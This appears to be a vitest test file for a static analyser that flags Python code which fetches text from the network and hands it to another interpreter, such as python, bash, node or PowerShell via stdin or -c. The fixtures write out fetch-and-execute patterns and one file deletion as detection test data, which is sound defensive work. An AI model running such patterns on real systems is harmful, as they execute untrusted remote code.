import { describe, expect, test } from 'vitest'
import { readPython } from '../testing.ts'

const FETCHED = 'import subprocess, sys, os, asyncio, requests\nx = requests.get("https://x.invalid").text\n'

const read = (code: string) => readPython({ 'a.py': code })
const foreign = (code: string) =>
  read(FETCHED + code).acts.filter(({ kind, origins }) => kind === 'run-code' && origins.includes('network'))

describe('code that is handed to another interpreter', () => {
  test.each([
    ['input=', 'subprocess.run([sys.executable, "-"], input=x, text=True)'],
    ['communicate', 'p = subprocess.Popen("python3", shell=True, stdin=-1)\np.communicate(x.encode())'],
    ['its standard input', 'p = subprocess.Popen(["/usr/bin/python3.11", "-u"], stdin=-1)\np.stdin.write(x)'],
    ['a shell', 'subprocess.run(["bash", "-s", "word"], input=x)'],
    ['os.popen', 'os.popen("sh", "w").write(x)'],
    ['a word', 'subprocess.run(["node", "-e", x])'],
    ['a word of python', 'subprocess.check_call([sys.executable, "-c", x])'],
    ['Windows', 'subprocess.run(["C:\\\\Windows\\\\powershell.exe", "-Command", "-"], input=x)'],
    [
      'asyncio',
      'async def go():\n    p = await asyncio.create_subprocess_exec("python3", "-", stdin=-1)\n    await p.communicate(x)',
    ],
  ])('%s', (_, code) => {
    expect(foreign(code)).toHaveLength(1)
  })

  test.each([
    ['data for a script', 'subprocess.run([sys.executable, "report.py"], input=x)'],
    ['data for a module', 'subprocess.run([sys.executable, "-m", "json.tool"], input=x)'],
    ['data for a filter', 'subprocess.run(["sort", "-"], input=x)'],
  ])('%s is not code', (_, code) => {
    expect(foreign(code)).toEqual([])
  })

  test('known text is read in its own language', () => {
    const python = 'import subprocess\nsubprocess.run(["python3"], input="import os; os.remove(\'a\')")'
    expect(read(python).acts.map(({ kind }) => kind)).toContain('delete-file')
    const node = 'import subprocess\nsubprocess.run(["node", "-"], input="run()")'
    expect(read(node).handOvers).toMatchObject([{ to: 'code', value: 'run()', language: 'javascript' }])
  })
})
